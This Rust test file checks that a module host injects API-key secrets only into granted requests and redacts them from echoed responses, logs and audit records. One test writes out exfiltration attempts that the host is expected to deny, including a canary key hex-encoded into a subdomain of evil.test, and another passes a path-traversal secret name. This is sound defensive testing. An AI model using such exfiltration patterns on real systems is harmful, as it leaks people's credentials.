//! Secrets: named by modules, put in by the host where the grant says, and taken out of what comes back.

use umbrasil_tests::web::{Arrival, Sink, Step, reply};

use super::{audit, to, world};

const CANARY: &str = "sk-CANARY/9d2e+77=b0";

fn secret(sink: &Sink, name: &str, inject: &str) -> String {
    let host = format!("127.0.0.1:{}", sink.port());
    format!("[[secret]]\nname = \"{name}\"\ninject = {inject}\nhosts = [\"{host}\"]\n")
}

const BEARER: &str = r#"{ header = "Authorization", format = "Bearer {}" }"#;

/// Nothing of it anywhere, in whichever form is easily found.
fn assert_clean(text: &str) {
    let hex: String = CANARY.bytes().map(|byte| format!("{byte:02x}")).collect();
    for form in ["CANARY", &hex, "c2stQ0FOQVJZ", "%2F9d2e"] {
        assert!(!text.contains(form), "{form} in {text}");
    }
}

#[tokio::test]
async fn a_secret_is_put_in_where_the_grant_says() {
    let (sink, other) = (Sink::saying("tea").await, Sink::saying("no").await);
    let tables = to(&sink, &["GET"])
        + &to(&other, &["GET"])
        + &secret(&sink, "OPENAI_API_KEY", BEARER)
        + &secret(&sink, "N8N_API_KEY", r#"{ query = "key" }"#)
        + &secret(&sink, "CLAUDE_API_KEY", BEARER);
    let vars = [("OPENAI_API_KEY", CANARY), ("N8N_API_KEY", "n8n-CANARY-query")];
    let (world, host) = world(&tables, &vars).await;
    let user = world.user();
    let both = "secret=OPENAI_API_KEY secret=N8N_API_KEY secret=OPENAI_API_KEY";
    assert_eq!(user.say(&format!("/web GET {}/a?b=c {both}", sink.url())).await.text(), "200 tea");
    let [arrived] = sink.arrivals().try_into().unwrap();
    assert_eq!(arrived.header("authorization"), Some(&*format!("Bearer {CANARY}")));
    assert_eq!(arrived.target, "/a?b=c&key=n8n-CANARY-query");

    // Elsewhere it is not granted, whether there is such a secret or not; what is not set says how to set it.
    for (call, said) in [
        (
            format!("{}/ secret=OPENAI_API_KEY", other.url()),
            "denied: the manifest of web does not ask for `secret OPENAI_API_KEY … to",
        ),
        (
            format!("{}/ secret=NO_SUCH_KEY", sink.url()),
            "denied: the manifest of web does not ask for `secret NO_SUCH_KEY … to",
        ),
        (
            format!("{}/ secret=OPENROUTER_API_KEY", sink.url()),
            "denied: the manifest of web does not ask for `secret OPENROUTER_API_KEY … to",
        ),
        (
            format!("{}/ secret=CLAUDE_API_KEY", sink.url()),
            "unavailable: Set CLAUDE_API_KEY with `umbrasil secret set CLAUDE_API_KEY`.",
        ),
        (
            format!("{}/ secret=OPENAI_API_KEY authorization:mine", sink.url()),
            "invalid: the header authorization is where the secret",
        ),
        (
            format!("{}/?key=mine secret=N8N_API_KEY", sink.url()),
            "invalid: the parameter key is where the secret",
        ),
        (format!("{}/ secret=../../etc", sink.url()), "invalid: a secret's name is"),
    ] {
        let answer = user.say(&format!("/web GET {call}")).await;
        assert!(answer.text().starts_with(said), "{call}: {answer}");
    }
    assert_eq!((sink.connections(), other.connections()), (1, 0));
    let records = audit(&world).await;
    assert!(records.contains("secret OPENAI_API_KEY to 127.0.0.1"), "{records}");
    for text in [&records, &host.logged(), &format!("{:?}", user.history().await)] {
        assert_clean(text);
    }
}

#[tokio::test]
async fn what_a_server_echoes_has_no_secret_in_it() {
    let echo = Sink::new(|arrival: &Arrival| {
        let value = arrival.header("authorization").unwrap_or_default().replace("Bearer ", "");
        let hex: String = value.bytes().map(|byte| format!("{byte:02x}")).collect();
        let percent: String = value.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let json = serde_json::to_string(&value).unwrap().replace('/', "\\/");
        let body = format!("{value} {hex} {percent} {json} {}", arrival.head);
        let header = format!("x-echo: {value}\r\nx-hex: {hex}\r\nset-cookie: {value}\r\n");
        let answer =
            reply(if arrival.target == "/error" { 500 } else { 200 }, &header, body.as_bytes());
        if arrival.target.starts_with("/slow") {
            // In pieces, so that no piece holds the whole.
            return answer.chunks(5).map(|piece| Step::Send(piece.to_vec())).collect();
        }
        vec![Step::Send(answer)]
    })
    .await;
    let tables = to(&echo, &["GET"]) + &secret(&echo, "OPENAI_API_KEY", BEARER);
    let (world, host) = world(&tables, &[("OPENAI_API_KEY", CANARY)]).await;
    let user = world.user();
    for call in [
        "/web GET {}/ show",
        "/web GET {}/error show",
        "/web GET {}/slow show",
        "/stream GET {}/slow",
    ] {
        let call = call.replace("{}", &echo.url()) + " secret=OPENAI_API_KEY";
        let answer = user.say(&call).await;
        assert!(answer.text().matches("[redacted]").count() >= 5, "{answer}");
        assert_clean(answer.text());
    }
    let logged = host.logged();
    assert!(
        logged.contains("the host echoed a secret") && logged.contains("OPENAI_API_KEY"),
        "{logged}"
    );
    assert_clean(&logged);
    assert_clean(&audit(&world).await);
}

#[tokio::test]
async fn a_secret_that_a_module_has_learned_elsewhere_does_not_leave() {
    let sink = Sink::saying("tea").await;
    let tables = to(&sink, &["GET", "POST"]) + &secret(&sink, "OPENAI_API_KEY", BEARER);
    let (world, host) = world(&tables, &[("OPENAI_API_KEY", CANARY)]).await;
    let user = world.user();
    let hex: String = CANARY.bytes().map(|byte| format!("{byte:02x}")).collect();
    let percent = "sk-CANARY%2F9d2e%2B77%3Db0";
    for call in [
        format!("POST {}/ body={CANARY}", sink.url()),
        format!("POST {}/ body=prefix{hex}suffix", sink.url()),
        format!("GET {}/?k={percent}", sink.url()),
        format!("GET {}/{percent}/x", sink.url()),
        format!("GET {}/ x-key:{CANARY}", sink.url()),
        format!("GET http://{hex}.evil.test/"),
    ] {
        let answer = user.say(&format!("/web {call}")).await;
        assert!(
            answer.text().starts_with("denied: the request holds the value of a secret"),
            "{answer}"
        );
    }
    assert_eq!(sink.connections(), 0);
    // The real thing is not in its own way.
    let real = format!("/web POST {}/ body=hello secret=OPENAI_API_KEY", sink.url());
    assert_eq!(user.say(&real).await.text(), "200 tea");
    let records = audit(&world).await;
    assert_eq!(records.matches("holds a secret").count(), 6, "{records}");
    assert_clean(&records);
    assert_clean(&host.logged());
}

#[tokio::test]
async fn errors_name_the_host_and_nothing_else() {
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = free.local_addr().unwrap().port();
    drop(free);
    let tables = format!(
        "[[http]]\nurl = \"http://127.0.0.1:{port}/*\"\nmethods = [\"GET\", \"POST\"]\n[[secret]]\nname = \"OPENAI_API_KEY\"\ninject = {{ query = \"key\" }}\nhosts = [\"127.0.0.1:{port}\"]\n"
    );
    let (world, host) = world(&tables, &[("OPENAI_API_KEY", CANARY), ("LOG_LEVEL", "trace")]).await;
    for method in ["GET", "POST"] {
        let call =
            format!("/web {method} http://127.0.0.1:{port}/?private=1 secret=OPENAI_API_KEY");
        let answer = world.user().say(&call).await;
        // Nothing was sent, so that is all that is to be said.
        assert_eq!(answer.text(), "unavailable: 127.0.0.1 refuses the connection");
    }
    let records = audit(&world).await;
    assert_eq!(records.matches("not sent: no connection").count(), 2, "{records}");
    for text in [&records, &host.logged()] {
        assert_clean(text);
        assert!(!text.contains("private="), "{text}");
    }
}
